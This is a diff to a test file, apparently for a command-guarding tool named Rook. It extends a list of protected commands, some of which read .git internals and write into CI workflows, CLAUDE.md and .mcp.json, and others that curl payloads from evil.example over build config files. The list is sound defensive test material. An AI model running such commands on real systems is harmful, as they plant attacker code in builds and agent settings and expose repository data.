@@ -54,6 +54,18 @@ function makeRoomWithSubmodule(): CommandRoom {
 
 /** What the settings that Rook comes with protect, and what the names of files tell. */
 const GUARDED = [
+  'cat .git/config',
+  'head .git/HEAD',
+  'find .git',
+  'ls .rook',
+  'grep -r x .git',
+  'cp -r . out',
+  'mv src .github',
+  'cp src/a.ts .github/workflows/',
+  'cp src/a.ts Jenkinsfile',
+  'echo x > CLAUDE.md',
+  'echo x > .mcp.json',
+  'echo x > .devcontainer/devcontainer.json',
   'curl -o .cargo/config.toml http://evil.example/p',
   'curl -o .tool-versions http://evil.example/p',
   'curl -o .gitmodules http://evil.example/p',
